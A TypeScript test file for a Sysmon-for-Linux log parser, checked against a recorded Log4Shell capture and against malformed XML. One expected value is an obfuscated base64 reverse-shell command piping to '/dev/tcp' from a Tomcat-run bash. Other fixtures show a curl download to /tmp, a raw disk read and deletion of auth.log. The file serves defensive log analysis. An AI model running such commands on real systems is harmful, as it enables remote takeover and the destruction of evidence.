import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { sysmon } from '../../../workers/formats/sysmon';
import { readEvent } from '../../../workers/formats/sysmon/event';
import { SysmonReader } from '../../../workers/formats/sysmon/shape';
import { haveSamples, sampleBytes } from '../../helpers/samples';
import { recognised, Stage, told } from '../../helpers/stage';

let stage: Stage;
beforeAll(async () => {
  stage = await Stage.open();
});
afterAll(() => stage.close());

const fixture = (name: string) => readFileSync(resolve(import.meta.dirname, '../../fixtures/sysmon', name));
const run = async (bytes: Buffer) => stage.run(sysmon, bytes);
const EVENTS = fixture('shapes.log').toString().trimEnd().split('\n');

describe.skipIf(!haveSamples)('a real capture out of Azure’s Syslog table', () => {
  const SAMPLE = 'agents/sysmon-linux/otrf-syslog_sysmon_log4shell.json';

  test('every event is read, none by the careful path', async () => {
    const { format, recipe } = recognised(sampleBytes(SAMPLE));
    expect([format?.id, recipe?.envelopes.map(({ id }) => id)]).toEqual(['sysmon', ['azure-syslog']]);
    const { rows, rejects, careful } = await run(sampleBytes(SAMPLE));
    const counts = new Map<string, number>();
    for (const row of rows) {
      const kind = `${row.kind} ${row.rank === 0 ? '' : 'end'}${row.mode ?? ''}`;
      counts.set(kind, (counts.get(kind) ?? 0) + 1);
    }
    expect({ rejects, careful, ...Object.fromEntries(counts) }).toEqual({
      rejects: [],
      careful: 0,
      'cmd ': 31,
      'cmd end': 50,
      'net ': 6,
      'file create': 4,
      'file delete': 2,
    });
  });

  test.for([
    {
      title: 'a command, cut at 2 KiB on the way',
      row: 8n,
      expected: {
        merge: 'process\x1fUBUNTU5\x1f94325212-fc0d-627b-4874-61f901560000|17790',
        rank: 0,
        keyed: true,
        time: '2022-05-11T18:10:21.998000000Z',
        precision: 'ms',
        kind: 'cmd',
        result: 'ok',
        flags: ['cut on the way'],
        host: 'UBUNTU5',
        comm: 'bash',
        cmdline: 'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}',
        exe: '/bin/bash',
        cwd: '/',
        pid: 17790,
        ppid: 1340,
        parent: 'java',
        uid: 1001,
        username: 'tomcat',
        entityid: '94325212-fc0d-627b-4874-61f901560000|17790',
        parententity: '94325212-f5a5-627b-b809-87f375550000|1340',
        started: '2022-05-11T18:10:21.998000000Z',
      },
    },
    {
      title: 'a connection',
      row: 2n,
      expected: {
        rank: 0,
        keyed: true,
        time: '2022-05-11T18:10:20.472000000Z',
        precision: 'ms',
        kind: 'net',
        result: 'unknown',
        host: 'UBUNTU5',
        comm: 'wdavdaemon',
        exe: '/opt/microsoft/mdatp/sbin/wdavdaemon',
        pid: 1774,
        username: 'root',
        entityid: '94325212-f5aa-627b-082b-60e4b9550000|1774',
        direction: 'out',
        l4proto: 'tcp',
        client: '192.168.2.5',
        clientport: 51492,
        server: '104.46.127.225',
        serverport: 443,
      },
    },
    {
      title: 'a file that was deleted',
      row: 14n,
      expected: {
        rank: 0,
        keyed: true,
        time: '2022-05-11T18:10:22.040000000Z',
        precision: 'ms',
        kind: 'file',
        result: 'unknown',
        host: 'UBUNTU5',
        comm: 'systemd-udevd',
        exe: '/lib/systemd/systemd-udevd',
        pid: 475,
        username: 'root',
        entityid: '94325212-f59b-627b-f8bd-e01506560000|475',
        file: 'queue',
        directory: '/run/udev/',
        path: '/run/udev/queue',
        mode: 'delete',
      },
    },
    {
      title: 'the end of a process that was never told',
      row: 30n,
      expected: {
        rank: 1,
        keyed: true,
        time: '2022-05-11T18:10:22.108000000Z',
        precision: 'ms',
        end: '2022-05-11T18:10:22.108000000Z',
        kind: 'cmd',
        result: 'unknown',
        flags: ['semicolons lost on the way', 'start not recorded'],
        host: 'UBUNTU5',
        pid: 17802,
        username: 'tomcat',
      },
    },
  ])('$title', async ({ row, expected }) => {
    const { rows } = await run(sampleBytes(SAMPLE));
    expect(told(rows.find(({ r }) => r === row))).toEqual(expected);
  });

  test('every attribute that is told was seen in it, but for those that are listed', async () => {
    const { rows } = await run(sampleBytes(SAMPLE));
    const seen = new Set(rows.flatMap((row) => Object.keys(told(row))));
    const own = new Set(['r', 'i', 'o', 'l', 'h', 'k', 'n', 'x', 'suspect', 'bare', 'skip']);
    const left = Object.keys(rows[0] ?? {}).filter((name) => !seen.has(name) && !own.has(name));
    expect(left.sort()).toEqual(['cluster', 'domain', 'label', 'node', 'origin', 'rule']);
  });

  test('a GUID that two processes of one second share names neither alone', async () => {
    const { rows } = await run(sampleBytes(SAMPLE));
    const twins = rows.filter((row) => row.comm === 'omicli' && row.rank === 0).map((row) => row.entityid);
    expect(twins).toEqual(['94325212-fc12-627b-8462-420000000000|17825', '94325212-fc12-627b-8462-420000000000|17829']);
  });
});

describe('what each event becomes', () => {
  test('what Sysmon says of itself, and other programs in the same log, are no events', async () => {
    const log = [
      'Mar 17 09:41:01 node-1 sysmon[99]: Configuration file validated.',
      `Mar 17 09:41:02 node-1 sysmon: ${EVENTS[0]}`,
      'Mar 17 09:41:02 node-1 sshd[7]: Accepted publickey for casey',
      'no syslog at all',
    ];
    const { rows, rejects } = await run(Buffer.from(log.join('\n')));
    expect(rows.flatMap(({ skip }) => skip ?? [])).toEqual([
      'ignored: what Sysmon says of itself',
      'ignored: a line of another program',
    ]);
    expect(rejects).toMatchObject([{ at: '4', why: 'rejected: no Sysmon event in the line' }]);
  });

  test('a process that was gone before Sysmon looked has the time at which it was written, and nothing that is not true', async () => {
    const gone = (EVENTS[0] as string)
      .replace(/<Data Name="(Image|CommandLine|CurrentDirectory|User|ParentImage|RuleName)">[^<]*/g, '<Data Name="$1">-')
      .replace(/<Data Name="LogonId">[^<]*/, '<Data Name="LogonId">65535')
      .replace(/<Data Name="ParentProcessId">[^<]*/, '<Data Name="ParentProcessId">0')
      .replace(/<Data Name="UtcTime">[^<]*/, '<Data Name="UtcTime">2026-03-16 00:00:00.000');
    const { rows } = await run(Buffer.from(gone));
    const row = told(rows[0]);
    expect(row).toMatchObject({ kind: 'cmd', precision: 'us', time: '2026-03-17T09:41:09.123000000Z' });
    for (const absent of ['uid', 'ppid', 'username', 'comm', 'cmdline']) expect(row).not.toHaveProperty(absent);
  });

  test.for([
    {
      id: 1,
      expected: {
        kind: 'cmd',
        cmdline: 'curl -o /tmp/u.tgz "https://files.example.net/?a=1&b=<2>"',
        rule: 'TechniqueID=T1059',
        origin: 'sysmon',
        uid: 0,
        parent: 'bash',
        rank: 0,
      },
    },
    { id: 3, expected: { kind: 'net', direction: 'out', client: '192.0.2.10', server: '198.51.100.7', serverport: 443 } },
    { id: 11, expected: { kind: 'file', mode: 'create', path: '/tmp/u.tgz' } },
    { id: 9, expected: { kind: 'file', mode: 'read', path: '/dev/sda', comm: 'dd' } },
    { id: 23, expected: { kind: 'file', mode: 'delete', path: '/var/log/auth.log' } },
    { id: 22, expected: { kind: 'net', label: 'dns', domain: ['files.example.net'] } },
    { id: 16, expected: { skip: 'ignored: Sysmon’s own configuration (event 16)' } },
    { id: 10, expected: { skip: 'ignored: event 10' } },
  ])('event $id', async ({ id, expected }) => {
    const line = EVENTS.find((event) => event.includes(`<EventID>${id}<`)) as string;
    const { rows, rejects } = await run(Buffer.from(line));
    expect(rejects).toEqual([]);
    expect(told(rows[0])).toMatchObject(expected);
  });

  test('ends of threads and of the process are one end: all of another rank below one key', async () => {
    const { rows } = await run(fixture('shapes.log'));
    const ends = rows.filter((row) => row.merge === rows[0]?.merge).map((row) => row.rank);
    expect(ends).toEqual([0, 1, 2]);
  });

  test('the same events behind syslog’s prefix', async () => {
    const plain = await run(fixture('shapes.log'));
    const behind = await run(fixture('behind-syslog.log'));
    expect(recognised(fixture('behind-syslog.log')).format?.id).toBe('sysmon');
    expect(behind.rows.map(told)).toEqual(plain.rows.map(told));
  });

  test('out of Azure: semicolons put back in entities, what is whole before the cut', async () => {
    const { rows } = await run(fixture('azure-syslog-cut.ndjson'));
    expect(told(rows[0])).toMatchObject({
      cmdline: 'curl -o /tmp/u.tgz "https://files.example.net/?a=1&b=<2>"',
      flags: ['semicolons lost on the way', 'cut on the way'],
      host: 'worker-1',
    });
    expect(rows[0]?.parententity).toBeNull();
  });
});

describe('hostile XML', () => {
  const event = EVENTS[0] as string;

  test.for([
    { title: 'CDATA', text: event.replace('>-<', '><![CDATA[x]]><'), why: 'rejected: an element inside a text' },
    {
      title: 'a document type',
      text: event.replace('<Event>', '<Event><!DOCTYPE a [<!ENTITY b "c">]>'),
      why: 'rejected: XML that Sysmon does not write',
    },
    {
      title: 'a comment',
      text: event.replace('<EventData>', '<!-- x --><EventData>'),
      why: 'rejected: XML that Sysmon does not write',
    },
    {
      title: 'elements that do not match',
      text: event.replace('</System>', '</Sistem>'),
      why: 'rejected: an element ends that did not begin',
    },
    { title: 'elements far down', text: `<Event>${'<a>'.repeat(10_000)}`, why: 'rejected: no Sysmon event' },
    { title: 'two events', text: event + event, why: 'rejected: text behind the event' },
    { title: 'no id', text: event.replace('<EventID>1</EventID>', ''), why: 'rejected: a Sysmon event without an event id' },
    {
      title: 'an element inside a value',
      text: event.replace('>/srv/app<', '>/srv<b>app</b><'),
      why: 'rejected: an element inside a text',
    },
    { title: 'a cut before the id', text: event.slice(0, 80), why: 'rejected: cut before it says which event it is' },
  ])('$title', ({ text, why }) => {
    const read = readEvent(text);
    expect(typeof read === 'string' ? read : 'an event').toContain(why);
  });

  test('entities by number, and none that stand for nothing', () => {
    const read = readEvent(event.replace('/srv/app', '&#9;&#x41;&#0;&#xD800;&unknown;'));
    expect(typeof read === 'string' ? read : read.fields.get('Data CurrentDirectory')).toBe('\tA\ufffd\ufffd&unknown;');
  });

  test('of a field that is there twice the first counts', () => {
    const read = readEvent(event.replace('</EventData>', '<Data Name="Image">/bin/other</Data></EventData>'));
    if (typeof read === 'string') throw new Error(read);
    expect([read.fields.get('Data Image'), read.notes]).toEqual(['/usr/bin/curl', ['duplicate field']]);
  });

  test('read by the shape of the one before, an event is what it is when it is read alone', () => {
    const piece = fc.constantFrom(...event.split(/(?<=[<>"])|(?=[<>"])/), '&amp;', '&lt ', '>', 'x', '');
    const changed = fc.tuple(fc.constantFrom(...EVENTS), fc.nat(), fc.nat(80), piece).map(([text, from, length, other]) => {
      const at = from % text.length;
      return text.slice(0, at) + other + text.slice(at + length);
    });
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...EVENTS), changed), { maxLength: 8 }), (texts) => {
        const reader = new SysmonReader();
        for (const text of [...EVENTS, ...texts, ...texts]) expect(reader.read(text)).toEqual(readEvent(text));
      }),
      { numRuns: 100 },
    );
  });

  test('attributes in single quotes', () => {
    expect(readEvent(event.replace('Name="Image"', "Name='Image'"))).toEqual(readEvent(event));
  });

  test('cut anywhere it is an event with fewer fields or a reject, and never throws', () => {
    fc.assert(
      fc.property(fc.nat(event.length), (at) => {
        const read = readEvent(event.slice(0, at));
        const whole = readEvent(event);
        if (typeof read === 'string' || typeof whole === 'string') return;
        for (const [name, value] of read.fields) expect(value).toBe(whole.fields.get(name));
      }),
    );
  });

  test('mixed pieces never throw', () => {
    const piece = fc.oneof(fc.constantFrom(...event.split(/(?=[<>&"' ])/)), fc.string({ maxLength: 8 }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        readEvent(`<Event>${pieces.join('')}`);
      }),
      { numRuns: 300 },
    );
  });
});
